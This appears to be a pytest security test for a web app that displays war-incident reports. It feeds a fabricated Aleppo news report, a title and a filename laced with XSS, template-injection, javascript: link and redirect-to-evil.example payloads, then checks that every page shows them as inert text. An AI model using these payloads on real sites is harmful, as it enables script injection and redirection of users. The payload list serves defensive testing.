"""A report made of attacks goes the whole way, from the file to every page of the desk: it shows as text and runs nothing."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.desk.browser.watching import Watched, fits_its_width
from tests.desk.serving import served
from warledger.cli import run
from warledger.desk import make_app
from warledger.ledger import Ledger

ATTACKS = (
    "<script>window.taken = 1; alert(1)</script>",
    "<img src=x onerror=window.taken=2>",
    "<svg/onload=window.taken=3>",
    "</mark></div><style>body{display:none}</style>",
    "{{7*7}} {% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7}",
    "<a href=\"javascript:window.taken=4\">here</a>",
    "' onmouseover='window.taken=5' x='",
    "<iframe srcdoc='<script>parent.taken=6</script>'></iframe>",
    "<div hx-get=\"https://evil.example/\" hx-trigger=load>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "\u202e\u2066]]><!--",
)  # fmt: skip
TEXT = (
    "ALEPPO, 14 June 2016. Warplanes bombed a market in the city of Aleppo on Monday, killing at least 12 civilians and "
    "wounding 30, the Valley Rescue Corps said. \u201cThey came twice {attacks},\u201d said a trader. "
    "Residents blamed the Syrian government. {attacks}\n\nMore than 280,000 people have been killed in the war since 2011. {attacks}"
)


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger of one such report, a refused one whose name is an attack too, and a harmless one beside it."""
    folder = tmp_path_factory.mktemp("hostile")
    attacks = " ".join(ATTACKS)
    told = {
        "report": f"<b onclick=window.taken=7>{ATTACKS[1]}</b>/../x?y#z",
        "text": TEXT.format(attacks=attacks),
        "title": attacks,
        "outlet": f"Gazette {ATTACKS[0]}{ATTACKS[4]}",
        "url": "javascript:window.taken=8",
        "published": "2016-06-14",
        ATTACKS[0]: ATTACKS[1],
    }
    plain = {
        "report": "plain",
        "text": TEXT.format(attacks=""),
        "published": "2016-06-14",
        "outlet": "Courier",
    }
    (folder / "told.jsonl").write_text(
        "".join(json.dumps(line) + "\n" for line in (told, plain)), encoding="utf-8"
    )
    (folder / "<img src=x onerror=window.taken=9>.txt").write_text("", encoding="utf-8")
    ledger = tmp_path_factory.mktemp("hostile_ledger") / "ledger.db"
    assert run(["build", str(folder), "-l", str(ledger)]) == 0
    return ledger


@pytest.fixture(scope="module")
def hostile_address(hostile_ledger: Path) -> Iterator[str]:
    with served(make_app(str(hostile_ledger))) as at:
        yield at


def every_page(ledger: Path) -> list[str]:
    """Give the address of every page that shows something of the ledger."""
    from warledger.desk.addresses import incident_href, report_href

    with Ledger.open_reading(str(ledger)) as opened:
        dossiers = [incident_href(incident.id) for incident in opened.incidents()]
        reports = [report_href(report.id) for report in opened.reports()]
    assert dossiers
    assert len(reports) == 2
    return [
        "/",
        "/?q=Warplanes",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        *dossiers,
        *reports,
        "/figures",
        "/refusals",
    ]


@pytest.mark.both_sizes
def test_a_report_of_attacks_runs_nothing_on_any_page(
    watched: Watched, hostile_address: str, hostile_ledger: Path
) -> None:
    page = watched.page
    for path in every_page(hostile_ledger):
        page.goto(hostile_address + path, wait_until="networkidle")
        assert page.evaluate("window.taken") is None, path
        assert page.locator("body").is_visible(), path
        assert urlsplit(page.url).hostname == "127.0.0.1", path
        assert (
            page.locator(
                "[onerror], [onload], [onclick], [onmouseover], iframe, base, [hx-get^=http]"
            ).count()
            == 0
        ), path
        assert page.locator("a[href^='javascript:' i]").count() == 0, path
        assert fits_its_width(page), path
    assert watched.hosts == {"127.0.0.1"}
    assert watched.complaints == []


def test_the_attacks_stand_in_the_report_as_text(
    watched: Watched, hostile_address: str, hostile_ledger: Path
) -> None:
    from warledger.desk.addresses import report_href
    from warledger.wording.visible import visible

    with Ledger.open_reading(str(hostile_ledger)) as opened:
        report = next(r for r in opened.reports() if r.id != "plain")
    watched.page.goto(hostile_address + report_href(report.id))
    shown = watched.page.locator(".text").inner_text()
    for attack in ATTACKS:
        assert " ".join(visible(attack).split()) in " ".join(shown.split())
